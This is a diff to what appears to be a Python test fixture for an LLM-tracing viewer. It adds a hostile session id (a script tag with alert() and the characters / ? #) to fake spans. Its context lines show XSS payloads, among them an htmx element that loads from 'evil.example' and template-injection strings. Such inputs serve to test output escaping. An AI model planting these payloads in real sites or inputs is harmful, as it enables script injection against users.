@@ -127,6 +127,8 @@ XSS_CORPUS = [
     '<div hx-get="https://evil.example/h" hx-trigger="load">htmx</div> {{ 7*7 }} ${alert(1)}',
 ]
 XSS_FEATURE = "xss"  # the corpus's spans carry the tag feature=xss
+# Their session id: hostile too, with the characters an address treats apart (/ ? #).
+XSS_SESSION = "xss/<script>alert('xss-session')</script>?q=1#frag"
 
 
 def _parts_message(role: str, text: str) -> dict[str, Any]:
@@ -154,6 +156,7 @@ def xss_spans() -> list[Any]:
             "gen_ai.input.messages": json.dumps(prompt),
             "gen_ai.output.messages": json.dumps([_parts_message("assistant", f"answer {text}")]),
             "user.id": f"u_mallory{text[:40]}",
+            "gen_ai.conversation.id": XSS_SESSION,
             "traceloop.association.properties.feature": XSS_FEATURE,
             "app.note": text,
         }
